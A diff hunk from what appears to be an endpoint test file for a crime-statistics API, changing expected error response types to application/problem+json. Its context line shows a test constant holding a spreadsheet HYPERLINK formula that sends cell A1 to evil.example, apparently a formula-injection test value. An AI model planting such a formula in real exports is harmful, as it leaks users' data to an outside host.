@@ -55,9 +55,9 @@ const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Chihuahua")';
     ['/api/v1/frameworks', 200, /^application\/json/],
     ['/api/v1/openapi.json', 200, /^application\/json/],
     ['/api/v1/series?measure=homicides&level=state&by=year&from=2019&to=2019', 200, /^application\/json/],
-    ['/api/v1/series?measure=nope', 400, /^application\/json/],
+    ['/api/v1/series?measure=nope', 400, /^application\/problem\+json/],
     ['/api/v1/results', 200, /^application\/json/],
-    ['/api/v1/programs/NO-SUCH', 404, /^application\/json/],
+    ['/api/v1/programs/NO-SUCH', 404, /^application\/problem\+json/],
     ['/no/such/page', 404, /^text\/html/],
   ];
 
